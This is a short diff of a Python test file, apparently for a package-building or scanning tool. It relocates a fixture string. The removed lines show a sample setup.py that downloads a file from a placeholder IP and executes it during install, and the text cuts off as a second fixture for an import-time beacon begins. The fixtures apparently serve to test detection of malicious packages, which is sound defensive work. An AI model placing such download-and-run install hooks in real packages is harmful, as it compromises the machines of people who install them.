@@ -18,16 +18,8 @@ from pathlib import Path
 import pytest
 
 from distbuilder import SdistBuilder, WheelBuilder
-from support import Server, eventually
+from support import DROPPER_SETUP, Server, eventually
 
-# setup.py that downloads a program and runs it while the package installs.
-DROPPER_SETUP = (
-    "import os, urllib.request\n"
-    "from setuptools import setup\n"
-    "urllib.request.urlretrieve('http://203.0.113.9/payload', '/tmp/.cache-update')\n"
-    "os.system('chmod +x /tmp/.cache-update && /tmp/.cache-update')\n"
-    "setup(name='x', version='1')\n"
-)
 # An __init__ that sends the host name somewhere as it is imported: suspicious, not certain.
 BEACON_INIT = (
     "import socket\n"
